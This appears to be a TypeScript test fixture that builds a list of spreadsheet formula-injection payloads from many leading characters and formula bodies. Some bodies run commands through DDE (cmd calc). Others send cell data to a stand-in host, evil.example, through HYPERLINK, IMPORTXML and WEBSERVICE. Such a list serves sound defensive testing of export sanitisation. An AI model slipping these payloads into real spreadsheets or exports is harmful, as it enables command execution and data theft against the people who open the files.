const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', '==', '+-'];
const bodies = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"点击")',
  'IMPORTXML("http://evil.example","//a")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'DDE("cmd";"/C calc";"1")',
  "SUM(1,1)*cmd|' /C calc'!A0",
  'A1:Z9",","="&1',
];

/** Texts that a spreadsheet would run if they stood in a cell as they are. */
export const formulaPayloads: readonly string[] = starts.flatMap((start) => bodies.map((body) => start + body));
